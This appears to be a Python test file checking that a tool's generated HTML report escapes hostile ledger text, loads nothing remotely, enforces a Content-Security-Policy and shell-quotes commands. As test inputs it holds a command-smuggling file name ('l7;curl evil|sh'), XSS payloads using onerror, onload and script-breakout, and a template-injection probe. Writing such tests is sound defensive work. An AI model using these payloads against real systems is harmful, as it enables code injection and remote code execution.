"""Nothing foreign gets a say in report.html: text stays text, and nothing is loaded from anywhere."""

from __future__ import annotations

import base64
import hashlib
import html
import re
import shlex
import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.device import State
from pipeline.errors import RunFolderError
from pipeline.layout import RunFolder
from pipeline.text import printable
from tests.report.ledgers import Fate, device
from tests.report.pages import (
    WRONG,
    again,
    change,
    page_alone,
    parsed,
    plain,
    poison,
    process,
    reading,
    table_after,
    words_of,
    written,
)

if TYPE_CHECKING:
    from pathlib import Path


def test_nothing_is_loaded_from_anywhere(page: str) -> None:
    """No address is in the page but names of files beside it, and nothing loads but an empty icon."""
    assert re.findall(r"(?i)https?:|//[a-z]|@import|url\(", page) == []
    found = parsed(page)
    assert not {"img", "iframe", "object", "embed", "video", "audio", "base", "form"} & {
        tag for tag, _ in found.tags
    }
    assert [value for tag, name, value in found.attributes if name in ("src", "srcset") or tag == "link"] == [
        "icon",
        "data:,",
    ]
    assert [name for _, name, _ in found.attributes if name.startswith("on") or name == "style"] == []


def test_the_policy_lets_in_what_is_there_and_nothing_else(page: str) -> None:
    """Style sheet and script are named by their hashes, and everything else is refused."""
    [policy] = [
        value
        for tag, name, value in parsed(page).attributes
        if (tag, name) == ("meta", "content") and "src" in value
    ]
    [css], script = re.findall(r"<style>(.*?)</style>", page, re.DOTALL), parsed(page).scripts[""]
    assert policy.split("; ") == [
        "default-src 'none'",
        "img-src data:",
        f"style-src '{_source(css)}'",
        f"script-src '{_source(script)}'",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert page.index("Content-Security-Policy") < page.index("<style>")


@pytest.mark.parametrize("name", ["l7;curl evil|sh", "line 7", "line-7"])
def test_a_command_is_quoted_for_a_shell(tmp_path: Path, name: str) -> None:
    """Whoever copies the command that writes the page again runs that one and no other."""
    root = written(tmp_path / name, [Fate(device("one"))])
    [command] = re.findall(r"<code>(thingmill report .*?)</code>", (root / "report.html").read_text("utf-8"))
    assert shlex.split(html.unescape(command)) == ["thingmill", "report", name]


def _source(text: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of one failed device, for ledgers to be changed."""
    root = tmp_path_factory.mktemp("pages") / "hostile"
    return written(root, [Fate(device("one"), State.KEYED, failed=WRONG)], [process((1.0, reading(1)))])


def page_with(root: Path, text: str) -> str:
    """Return the page of a ledger that has a text in every place that takes some."""
    poison(root, text)
    return page_alone(root)


HARMLESS = "harmless"
PIECES = (
    *("</script", "<script>", "</style>", "</title>", "<!--", "-->", "]]>", ">", '"', "'", "`"),
    *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "{{7*7}}", "{% raw %}", "${1}"),
    *("&lt;", "&#x27;", "\\u003c", "\u202e", "\u2028"),
)
HOSTILE = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=60),
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=6).map("".join),
)


@settings(max_examples=60)
@given(text=HOSTILE)
def test_foreign_text_is_text(hostile: Path, text: str) -> None:
    """Whatever a ledger says, the page has the same elements with the same attributes, and shows it as text."""
    calm, found = parsed(page_with(hostile, HARMLESS)), parsed(page_with(hostile, text))
    assert found.tags == calm.tags
    shown = printable(text)
    assert found.rows == [[shown if cell == HARMLESS else cell for cell in row] for row in calm.rows]
    assert plain(found.text).count(plain(shown).strip()) >= plain(calm.text).count(HARMLESS)
    assert found.scripts.keys() == {"rows", ""}
    assert not {"<", ">", "&"} & set(found.scripts["rows"])
    assert not {"\u202e", "\u2028", "\x1b"} & set(found.text)


def test_a_template_in_a_ledger_is_no_template(hostile: Path) -> None:
    """What looks like a template is shown as it is, and not worked out."""
    text = words_of(page_with(hostile, "{{7*7}}{% raw %}"))
    assert "{{7*7}}{% raw %}" in text
    assert "49" not in text


@pytest.mark.parametrize(
    ("started", "usage"),
    [
        ("9999-12-31T23:59:59-10:00", "{}"),
        ("soon", '{"issued": -1, "finished": "2026-01-02T03:04:05+00:00"}'),
        ("2026-01-02T03:04:05+00:00", '{"done": 1e400}'),
        ("2026-01-02T03:04:05+00:00", '{"throttles": {"a": NaN}}'),
        ("2026-01-02T03:04:05+00:00", '{"finished": "0001-01-01T00:00:00+14:00"}'),
        ("2026-01-02T03:04:05+00:00", "[]"),
        ("2026-01-02T03:04:05+00:00", '{"exit_code": "x"}'),
    ],
)
def test_what_a_process_cannot_have_told_counts_for_nothing(hostile: Path, started: str, usage: str) -> None:
    """Times and numbers that no thingmill wrote leave the process as one that was killed."""
    change(hostile, ("UPDATE processes SET started = ?, usage = ?", [(started, usage)]))
    [row] = table_after(again(hostile), 'id="processes"')
    assert row[2:] == ["\N{EN DASH}", "\N{EN DASH}", "\N{EN DASH}", "\N{EN DASH}", "killed"]


def test_a_name_that_is_another_text_is_refused_by_the_ledger(hostile: Path) -> None:
    """No page is made of a ledger whose things have names that no manifest can have."""
    with closing(sqlite3.connect(RunFolder(hostile).ledger)) as connection:
        [(before,)] = connection.execute("SELECT description FROM devices").fetchall()
    evil = before.replace('"one"', '"</script><script>alert(1)</script>"')
    change(hostile, ("UPDATE devices SET description = ?", [(evil,)]))
    with pytest.raises(RunFolderError, match="no thingmill can have written"):
        again(hostile)
    change(hostile, ("UPDATE devices SET description = ?", [(before,)]))
